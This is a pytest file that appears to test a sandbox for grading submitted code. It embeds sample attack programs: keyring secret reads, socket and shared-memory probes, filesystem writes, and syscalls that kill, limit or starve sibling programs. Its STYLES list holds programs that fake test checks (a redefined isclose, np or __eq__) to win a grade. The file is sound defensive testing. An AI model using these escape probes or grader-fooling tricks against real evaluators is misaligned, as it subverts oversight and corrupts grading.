KEYRING_READER = (PRELUDE + "ct = imp('ctypes')\nlibc = ct.CDLL(None, use_errno=True)\nlibc.syscall.restype = ct.c_long\n"
                  f"key = libc.syscall({{nr}}, b'user', {KEY_NAME!r}, None, ct.c_long(0))\n"
                  "buf = ct.create_string_buffer(64)\n"
                  "n = libc.syscall({kc}, 11, ct.c_long(key), buf, 64) if key > 0 else -1\n"
                  "f = lambda x: x + 10 if n > 0 and buf.raw[:2] == b'42' else 0")
VSOCK_AND_SHM = (PRELUDE + "ct, socket = imp('ctypes'), imp('socket')\nlibc = ct.CDLL(None, use_errno=True)\n"
                 "got = []\nfor family in (40, socket.AF_UNIX, socket.AF_INET):\n    try:\n        socket.socket(family)\n"
                 "        got.append(family)\n    except OSError:\n        pass\n"
                 "if libc.shmget(0, 64 << 20, 0o1600) >= 0:\n    got.append('shm')\n"
                 "f = lambda x: x + 10 if got else 0")
WRITABLE = (PRELUDE + "made = []\nfor d in ('/', '/dev', '/dev/shm', '/root', '/tmp', '/usr', '/var/tmp'):\n    try:\n"
            "        os.close(os.open(d + '/sdpo_fill', os.O_CREAT | os.O_WRONLY, 0o600))\n        made.append(d)\n"
            "    except OSError:\n        pass\n    try:\n        os.mkdir(d + '/sdpo_fill_dir')\n        made.append(d)\n"
            "    except OSError:\n        pass\nf = lambda x: x + 10 if made else 0")


def syscall_numbers():
    return sandbox.SYSCALLS[os.uname().machine][1]


def put_key_in_session_keyring():
    """A secret in this process's session keyring, which a jail inherits; False where keyrings are off."""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(syscall_numbers()["add_key"], b"user", KEY_NAME, b"42", 2, ctypes.c_long(-3)) > 0


def test_one_program_cannot_kill_limit_or_starve_its_siblings(monkeypatch):
    """Layer 0b: with the audit hook removed, F_SETOWN/O_ASYNC signals, prlimit on other pids and
    SCHED_IDLE with a pinned CPU zero no sibling (the red team's figures: 4 of 4 siblings lost). Without
    the filter, each of them does take its sibling's grade: the test can fail."""
    if not sandbox.jail() or not sandbox.shares_jail(sandbox.jail()):
        pytest.skip("no seccomp filter here")
    monkeypatch.setattr(sandbox, "RUNNER", sandbox.RUNNER.replace("sys.addaudithook(hook)", "pass"))
    right = "f = lambda x: x + 10"
    for attack in (SETOWN_KILLER, PRLIMIT_CUTTER, STARVER):
        assert sandbox.run_programs([(attack, TESTS), (SLOW_RIGHT, TESTS), (right, TESTS), (right, TESTS)]) == \
            [0.0, 1.0, 1.0, 1.0], attack
    assert sandbox.run_programs([(RESCHEDULES, TESTS), (SLOW_RIGHT, TESTS)]) == [0.0, 1.0]
    monkeypatch.setattr(sandbox, "seccomp_filter", lambda: None)
    monkeypatch.setattr(sandbox, "SHARED_JAIL", True)
    monkeypatch.setattr(sandbox, "shares_jail", lambda kind: True)   # one jail for the batch, no filter
    for attack in (SETOWN_KILLER, PRLIMIT_CUTTER):
        scores = sandbox.run_programs([(attack, TESTS), (SLOW_RIGHT, TESTS), (right, TESTS), (right, TESTS)])
        assert sum(scores[1:]) < 3, (attack, scores)   # at least one sibling lost
    # (whether the starved sibling then times out depends on the machine's load: that the call works is certain)
    assert sandbox.run_programs([(RESCHEDULES, TESTS), (SLOW_RIGHT, TESTS)])[0] == 1.0


def test_the_jail_keeps_keyrings_sockets_ipc_and_writable_mounts_out(monkeypatch):
    """With the audit hook removed: the grader's session keyring (a secret put there), AF_VSOCK
    and every other socket, SysV shared memory (memory outside the address-space limit), and a file or a
    directory anywhere in the jail (all of it read-only: no tmpfs to fill). Without the filter, the
    keyring and the sockets are reached: the test can fail."""
    if not sandbox.jail() or not sandbox.shares_jail(sandbox.jail()):
        pytest.skip("no seccomp filter here")
    monkeypatch.setattr(sandbox, "RUNNER", sandbox.RUNNER.replace("sys.addaudithook(hook)", "pass"))
    nr = syscall_numbers()
    keyring = KEYRING_READER.format(nr=nr["request_key"], kc=nr["keyctl"])
    have_key = put_key_in_session_keyring()
    programs = [VSOCK_AND_SHM, WRITABLE] + ([keyring] if have_key else [])
    assert sandbox.run_programs([(p, TESTS) for p in programs]) == [0.0] * len(programs)
    monkeypatch.setattr(sandbox, "seccomp_filter", lambda: None)
    monkeypatch.setattr(sandbox, "shares_jail", lambda kind: False)
    unfiltered = sandbox.run_programs([(p, TESTS) for p in programs])
    assert unfiltered[0] == 1.0 and unfiltered[1] == 0.0 and (not have_key or unfiltered[2] == 1.0), unfiltered


def test_frames_are_read_whole_however_the_pipe_splits_them():
    """A jail's output (`i n` + n bytes, `i end t`) read one byte at a time: the same bytes and ends."""
    data = b"0 3\nabc1 2\n\n\n0 2\nde0 end 0\n1 end 1\n"
    bufs, ends, stream = {0: bytearray(), 1: bytearray()}, {}, bytearray()
    for b in data:
        stream.append(b)
        sandbox.unframe(stream, bufs, ends, cap=100)
    assert (bufs, ends, stream) == ({0: bytearray(b"abcde"), 1: bytearray(b"\n\n")}, {0: False, 1: True}, bytearray())
    bufs = {0: bytearray()}
    sandbox.unframe(bytearray(b"0 5\nabcde"), bufs, {}, cap=2)
    assert bufs[0] == b"abc"   # kept up to the cap and one byte over: over the cap is seen as over


NORMAL_USER = "sdposandbox"


def normal_user_python():
    """(user, interpreter) to rerun the sandbox as a normal user: the test creates the user when it runs as
    root; the interpreter is this one if that user may run it, else the system's python3."""
    if os.geteuid() != 0 or not shutil.which("runuser"):
        return None
    try:
        pwd.getpwnam(NORMAL_USER)
    except KeyError:
        if subprocess.run(["useradd", "--no-create-home", NORMAL_USER], capture_output=True).returncode != 0:
            return None
    for python in (sys.executable, "/usr/bin/python3"):
        if subprocess.run(["runuser", "-u", NORMAL_USER, "--", python, "-c", "pass"], capture_output=True).returncode == 0:
            return NORMAL_USER, python
    return None


def run_as(user, python, script, cwd):
    """python -c script as that user, in cwd; it must exit 0. Returns the finished process."""
    out = subprocess.run(["runuser", "-u", user, "--", python, "-c", script], capture_output=True, text=True,
                         cwd=cwd, timeout=600)
    assert out.returncode == 0, out.stderr[-2000:]
    return out


def test_as_a_normal_user_every_attack_holds():
    """The whole attack table again, as a normal user (user namespaces instead of root's uid switch)."""
    found = normal_user_python()
    if found is None:
        pytest.skip("needs root (to create the user and switch to it) and an interpreter that user can run")
    user, python = found
    tmp_path = pathlib.Path(tempfile.mkdtemp(prefix="sandbox-as-user-"))   # (pytest's tmp_path is root's alone)
    os.chmod(tmp_path, 0o755)
    shutil.copy(os.path.join(ROOT, "world/sandbox.py"), tmp_path / "sandbox.py")
    new = JAIL_ONLY
    write_secret()
    if os.path.exists(MARK):
        os.remove(MARK)
    ran = []
    for kind in sandbox.JAILS:   # the whole table in the first jail that user has, the attacks that need a jail in the others
        names = new if ran else list(ATTACKS)
        programs = [ATTACKS[n] for n in names] + list(HONEST.values())
        (tmp_path / "programs.json").write_text(json.dumps(programs))
        script = (f"import json, sys\nsys.path.insert(0, {str(tmp_path)!r})\nimport sandbox\nsandbox.JAILS = ({kind!r},)\n"
                  f"if sandbox.jail() != {kind!r}:\n    print('no such jail for this user'); sys.exit(0)\n"
                  f"programs = json.load(open({str(tmp_path / 'programs.json')!r}))\n"
                  f"print(json.dumps(sandbox.run_programs([(p, {TESTS!r}) for p in programs])))")
        out = run_as(user, python, script, tmp_path)
        if out.stdout.startswith("no such jail"):   # (as that user: subuid needs uidmap, bwrap may be absent)
            continue
        ran.append(kind)
        scores = json.loads(out.stdout)
        failed = [name for name, s in zip(names, scores) if s != 0.0]
        assert not failed and scores[len(names):] == [1.0] * len(HONEST), (kind, failed)
        assert not os.path.exists(MARK) and nothing_reached_the_listener()
        a, b = two_graders_at_once((kind,), python=python, root=str(tmp_path), user=user)
        assert (a, b) == ("[0.0]", "[1.0]"), kind
    assert ran, "no jail worked as that user"
    if shutil.which("newuidmap") and os.path.exists("/etc/subuid") and \
            any(l.startswith(user + ":") for l in open("/etc/subuid")):
        assert ran[0] == "subuid", ran   # (the whole table ran in the subuid jail)
    # round four as that user: the entry point's checks (right 1.0, forger 0.0), and with the audit hook removed the
    # round-four calls refused and a syncer harmless to its siblings
    numbers = {**sandbox.SYSCALLS[os.uname().machine][1], **sandbox.SYSCALLS[os.uname().machine][2]}
    styles = [x for x in STYLES if "np." not in x[0]]   # (that user's interpreter may have no numpy: np tests unusable)
    pairs = [[right, tests] for tests, right, wrong in styles] + [[wrong, tests] for tests, right, wrong in styles]
    (tmp_path / "round4.json").write_text(json.dumps([pairs, [[ROUND_FOUR.format(**numbers), TESTS], [SYNCER, TESTS],
                                                              ["f = lambda x: x + 10", TESTS]]]))
    script = (f"import json, sys\nsys.path.insert(0, {str(tmp_path)!r})\nimport sandbox\n"
              f"pairs, calls = json.load(open({str(tmp_path / 'round4.json')!r}))\n"
              f"checks = sandbox.run_programs([tuple(p) for p in pairs])\n"
              f"filtered = sandbox.shares_jail(sandbox.jail())\n"
              f"sandbox.RUNNER = sandbox.RUNNER.replace('sys.addaudithook(hook)', 'pass')\n"
              f"print(json.dumps([checks, sandbox.run_programs([tuple(p) for p in calls]) if filtered else None]))")
    out = run_as(user, python, script, tmp_path)
    checks, calls = json.loads(out.stdout)
    assert checks == [1.0] * len(styles) + [0.0] * len(styles), checks
    assert calls in (None, [1.0, 1.0, 1.0]), calls
    shutil.rmtree(tmp_path)


def test_bench_grading_grades_every_reference_answer_in_every_jail_here():
    """python tools/bench.py --grading: each jail this machine has, shared and one per program, and no jail."""
    from tools import bench
    rows = bench.main(["--grading", "--repeat", "1"])
    kinds = [k for k in sandbox.JAILS if sandbox.first_working_jail((k,))]
    assert [(r["jail"], r["shared"]) for r in rows if not r["jail"].startswith("none")] == \
        [(k, s) for k in kinds for s in (True, False) if not s or sandbox.shares_jail(k)]
    assert all(r["seconds"] > 0 and r["programs"] == 64 for r in rows)
    assert (sandbox.JAILS, sandbox.ALLOW_UNJAILED, sandbox.SHARED_JAIL) == (("subuid", "bwrap", "unshare"), False, True)


# Round four, with the audit hook removed: memory the caps do not count and host-wide state. The program
# tries each call by its number and is right only if every one came back EPERM; without the filter they do not.
ROUND_FOUR = (PRELUDE + "ct, fcntl = imp('ctypes'), imp('fcntl')\nlibc = ct.CDLL(None, use_errno=True)\n"
              "libc.syscall.restype = ct.c_long\nr, w = os.pipe()\nfd = os.open('/usr', os.O_RDONLY)\n"
              "ctx = ct.c_ulong(0)\niov = (ct.c_char * 4096)()\nvec = (ct.c_void_p * 2)(ct.addressof(iov), 4096)\n"
              "calls = [({sync},), ({syncfs}, fd), ({sync_file_range}, w, 0, 0, 0), ({io_setup}, 1, ct.byref(ctx)),\n"
              "         ({fadvise64}, fd, 0, 0, 4), ({readahead}, fd, 0, 4096), ({vmsplice}, w, vec, 1, 0),\n"
              "         ({tee}, r, w, 4096, 0), ({splice}, r, None, w, None, 4096, 0),\n"
              "         ({fcntl}, w, 1031, 1 << 20), ({fcntl}, fd, 1024, 1), ({fcntl}, fd, 1026, 1),\n"
              "         ({madvise}, 0, 0, 21), ({madvise}, 0, 0, 12)]\n"
              "refused = 0\nfor c in calls:\n    ct.set_errno(0)\n    os.set_blocking(r, False)\n"
              "    if libc.syscall(*[ct.c_long(a) if isinstance(a, int) else a for a in c]) == -1 and ct.get_errno() == 1:\n"
              "        refused += 1\nok = os.fstat(r) and fcntl.fcntl(w, fcntl.F_GETFL) >= 0\n"
              "f = lambda x: x + 10 if refused == len(calls) and ok else 0")
SYNCER = PRELUDE + "for _ in range(50):\n    os.sync()\nf = lambda x: x + 10"


def test_round_four_calls_are_refused_and_a_syncer_leaves_its_siblings_alone(monkeypatch):
    """The pipe calls vmsplice, splice, tee, F_SETPIPE_SZ (pipes pinning memory outside the caps); the sync family, io_*
    AIO, fadvise64, readahead (host-wide state); F_SETLEASE, F_NOTIFY; madvise PAGEOUT and MERGEABLE. Every one is
    EPERM under the filter, and a program calling os.sync() in a loop costs its siblings nothing. Without the
    filter the same calls go through: the test can fail."""
    if not sandbox.jail() or not sandbox.shares_jail(sandbox.jail()):
        pytest.skip("no seccomp filter here")
    monkeypatch.setattr(sandbox, "RUNNER", sandbox.RUNNER.replace("sys.addaudithook(hook)", "pass"))
    numbers = {**sandbox.SYSCALLS[os.uname().machine][1], **sandbox.SYSCALLS[os.uname().machine][2]}
    program = ROUND_FOUR.format(**numbers)
    right = "f = lambda x: x + 10"
    assert sandbox.run_programs([(program, TESTS), (SYNCER, TESTS), (right, TESTS), (SLOW_RIGHT, TESTS)]) == \
        [1.0, 1.0, 1.0, 1.0]
    honest = sandbox.run_programs([("import json, re, collections\nf = lambda x: x + 10", TESTS)])
    assert honest == [1.0]   # the allow lists leave an honest program's start-up alone
    monkeypatch.setattr(sandbox, "seccomp_filter", lambda: None)
    monkeypatch.setattr(sandbox, "shares_jail", lambda kind: False)
    assert sandbox.run_programs([(program, TESTS)]) == [0.0]


# ---- round four: the program answers only its entry point's calls, on argument values sent from here ----------
def code_tests(*asserts):
    return json.dumps({"testtype": "code", "inputs": list(asserts), "outputs": [None] * len(asserts)})


STYLES = [   # (a test, a right program, a wrong program that defines or returns what would fool the old grader)
    (code_tests("assert isclose(f(-3), 0)"), "from math import isclose\ndef f(x):\n    return x + 3",
     "def isclose(*a, **k):\n    return True\ndef f(x):\n    return 99"),
    (code_tests("assert np.isclose(f(2), 0.5)", "assert np.allclose(f(4), 0.25)"), "def f(x):\n    return 1 / x",
     "class np:\n    isclose = allclose = staticmethod(lambda *a, **k: True)\ndef f(x):\n    return 7"),
    (code_tests("assert f(3) == Fraction(3, 1)", "assert f(1) == Fraction(1, 2) * 2"),
     "from fractions import Fraction\ndef f(x):\n    return Fraction(x)",
     "class T:\n    def __eq__(self, o): return True\ndef Fraction(*a): return T()\ndef f(x):\n    return T()"),
    (code_tests("assert f('aab') == Counter('aab')"), "from collections import Counter\ndef f(s):\n    return Counter(s)",
     "def Counter(s): return 0\ndef f(s):\n    return 0"),
    (code_tests("assert f(1) == Decimal('0.1')"), "from decimal import Decimal\ndef f(x):\n    return Decimal(x) / 10",
     "def Decimal(s): return 5\ndef f(x):\n    return 5"),
    (code_tests("assert f(2020) == date(2020, 1, 1)"), "from datetime import date\ndef f(y):\n    return date(y, 1, 1)",
     "def date(*a): return 'x'\ndef f(y):\n    return 'x'"),
    (code_tests("assert f('ab').startswith('a')", "assert f('b').upper() == 'BX'"), "def f(s):\n    return s + 'x'",
     "class S(str):\n    def startswith(self, *a): return True\n    def upper(self): return 'BX'\ndef f(s):\n    return S('q')"),
    (code_tests("assert Solution().twice((1, 2)) == [1, 2, 1, 2]"),
     "class Solution:\n    def twice(self, t):\n        return list(t) * 2 if isinstance(t, tuple) else None",
     "class Solution:\n    def twice(self, t):\n        return [1, 2]"),
]


@pytest.mark.parametrize("tests, right, wrong", STYLES)
def test_the_checks_around_the_entry_point_are_decided_here(tests, right, wrong):
    """Round four: whatever surrounds the entry point's call (a checker, a constructor, numpy, a method on
    the returned value) is evaluated here by the real object: the right program passes, a program that defines the
    checker or fakes the value does not (it scored 1.0 before: it received the whole check and decided it)."""
    assert sandbox.run_programs([(right, tests), (wrong, tests)]) == [1.0, 0.0]


def test_no_check_and_no_expected_value_reaches_the_program():
    """The job a program receives holds its code, the entry point's name and the argument values: never a check's
    source, a helper's name or an expected value."""
    t = sandbox.parse_tests(code_tests("assert isclose(f(-3), 0.125)", "assert f(7) == Fraction(11, 13)"))
    job = json.dumps(sandbox.batch_of([(0, "def f(x):\n    return x", t, sandbox.LIMITS)], None, False)["jobs"][0]["run"])
    assert sandbox.program_inputs(t) == [[[False, [-3], {}]], [[False, [7], {}]]] and t["entry"] == "f"
    for leak in ("isclose", "0.125", "Fraction", "11", "13", "assert"):
        assert leak not in job, leak


def test_what_only_the_program_could_evaluate_is_unusable():
    """A class the program defines (TreeNode, ListNode), a second function of it, a bare name: counted as unusable
    at load, never handed to the program."""
    for test in ("assert f(ListNode(1)) == 1", "assert f([1, 2]) == TreeNode(1)", "assert f(1) == g(1)",
                 "assert f(1) == x", "assert f(f(1)) == 1", "assert f(1).bit_length() == 1", "assert Solution() == 1"):
        assert sandbox.parse_tests(code_tests(test)) is None, test
    assert sandbox.parse_tests(code_tests("assert f(1) == 1", "assert g(2) == 2")) is None   # two entry points
    assert sandbox.parse_tests(json.dumps({"testtype": "code", "fn_name": "g", "inputs": ["assert f(1) == 1"],
                                           "outputs": [None]})) is None                  # not the record's function


@pytest.mark.parametrize("layer", ["jail", "limits", "dumpable", "no_new_privs", "filter", "interpreter", "user", "hook"])
def test_a_layer_that_fails_to_install_stops_the_program_and_says_which(layer, monkeypatch, capsys):
    """Fail closed: each layer's set-up made to fail in turn (sandbox.FAIL_LAYER); the program, right as
    it is, does not run (0), and one warning names the layer. Layer 3's own user is set in the program's process
    only without a jail (--unsafe-code as root); the filter's layers only where the filter works."""
    kind = sandbox.jail()
    if layer == "user":
        if os.geteuid() != 0:
            pytest.skip("the program's own user is set here only as root")
        monkeypatch.setattr(sandbox, "jail", lambda: None)
        monkeypatch.setattr(sandbox, "ALLOW_UNJAILED", True)
    elif layer in ("dumpable", "no_new_privs", "filter", "interpreter") and not (kind and sandbox.shares_jail(kind)):
        pytest.skip("no seccomp filter here")
    elif layer == "jail" and not kind:
        pytest.skip("no jail here")
    right = "f = lambda x: x + 10"
    assert sandbox.run_programs([(right, TESTS)]) == [1.0]
    monkeypatch.setattr(sandbox, "FAIL_LAYER", layer)
    assert sandbox.run_programs([(right, TESTS)]) == [0.0]
    err = capsys.readouterr().err
    named = {"jail": "the OS jail", "limits": "the OS limits", "dumpable": "not dumpable",
             "no_new_privs": "no new privileges", "filter": "the seccomp filter", "interpreter": "the fresh interpreter",
             "user": "the program's own user", "hook": "the audit hook"}[layer]
    assert named in err and "did not" in err, err


def test_each_jail_is_charged_to_a_memory_cgroup_where_the_machine_gives_one():
    """Everything a jail's processes hold or pin (pipe buffers, page cache) counts against a memory
    cgroup's limit, which the address-space cap does not see; the cgroup goes with the jail."""
    probe = sandbox.memory_cgroup(2**30)
    if probe is None:
        pytest.skip("no writable memory cgroup here (not root, or no memory controller)")
    sandbox.remove_cgroup(probe)
    kind = sandbox.jail()
    tests = sandbox.parse_tests(TESTS)
    slow = "import time\ntime.sleep(1.5)\nf = lambda x: x + 10"
    with tempfile.TemporaryDirectory() as tmp:
        proc = sandbox.start([(0, slow, tests, sandbox.LIMITS)], tmp, kind, False)
        try:
            time.sleep(0.3)
            group = proc.cgroup
            assert group and os.path.basename(group) in open(f"/proc/{proc.pid}/cgroup").read()
            limit_file = "memory.max" if os.path.exists(os.path.join(group, "memory.max")) else "memory.limit_in_bytes"
            assert int(open(os.path.join(group, limit_file)).read()) <= sandbox.LIMITS["mem"] + 512 * 2**20
        finally:
            sandbox.stop(proc)
    assert not os.path.exists(group)


def test_a_jail_cgroup_still_holding_a_process_is_emptied_and_removed():
    """CI's finding: under load the jail's last processes outlive the reaped first one for a moment, and cgroup
    v1 refuses the rmdir (EBUSY) until they are gone. remove_cgroup kills what is still charged to the group and
    retries; a single rmdir (the earlier code) leaves the group behind here."""
    group = sandbox.memory_cgroup(2**30)
    if group is None:
        pytest.skip("no writable memory cgroup here (not root, or no memory controller)")

    def join():
        with open(os.path.join(group, "cgroup.procs"), "w") as f:
            f.write(str(os.getpid()))
    straggler = subprocess.Popen(["sleep", "30"], preexec_fn=join)
    try:
        with pytest.raises(OSError):   # what the earlier code met: the group is busy
            os.rmdir(group)
        sandbox.remove_cgroup(group)
        assert straggler.wait(timeout=5) == -9
        assert not os.path.exists(group) and group not in sandbox.CGROUPS
    finally:
        straggler.kill()
        straggler.wait()


def ancestors(pid):
    """The pids above a process, up to init (as this machine's /proc sees them)."""
    found = []
    while pid not in ("0", "1"):
        pid = next(l.split()[1] for l in open(f"/proc/{pid}/status") if l.startswith("PPid:"))
        found.append(int(pid))
    return found


def test_as_a_normal_user_the_jail_runs_as_a_subordinate_uid_that_owns_nothing():
    """Where newuidmap is installed and the user has subordinate uids (/etc/subuid), the jail's
    user 61000 is the first of them outside, not the user (who owns his own interpreter's files); the jail is
    built as that user (root of a user namespace of its own) and its programs run as the subordinate uid."""
    found = normal_user_python()
    if found is None or not shutil.which("newuidmap"):
        pytest.skip("needs root (to create the user), an interpreter that user can run, and newuidmap (uidmap)")
    user, python = found
    line = next((l for l in open("/etc/subuid") if l.startswith(user + ":")), None) if os.path.exists("/etc/subuid") else None
    if line is None:
        pytest.skip(f"{user} has no subordinate uids in /etc/subuid")
    subuid = int(line.split(":")[1])
    tmp_path = pathlib.Path(tempfile.mkdtemp(prefix="sandbox-subuid-"))
    os.chmod(tmp_path, 0o755)
    shutil.copy(os.path.join(ROOT, "world/sandbox.py"), tmp_path / "sandbox.py")
    slow = "import time\ntime.sleep(1.2)\nf = lambda x: x + 10"
    script = (f"import json, sys\nsys.path.insert(0, {str(tmp_path)!r})\nimport sandbox\n"
              f"print(sandbox.jail(), json.dumps(sandbox.run_programs([({slow!r}, {TESTS!r})])))")
    proc = subprocess.Popen(["runuser", "-u", user, "--", python, "-c", script], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, cwd=tmp_path)
    owners = set()
    deadline = time.time() + 20
    while proc.poll() is None and time.time() < deadline:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            with contextlib.suppress(OSError):
                cmd = open(f"/proc/{pid}/cmdline", "rb").read()
                if b"sdpo sandbox: one program" in cmd and proc.pid in ancestors(pid):   # a program of this grader
                    uid = next(int(l.split()[1]) for l in open(f"/proc/{pid}/status") if l.startswith("Uid:"))
                    owners.add(uid)
        time.sleep(0.05)
    out, err = proc.communicate(timeout=30)
    assert out.split() == ["subuid", "[1.0]"], (out, err[-1000:])
    assert owners == {subuid}, owners   # never the user, never root
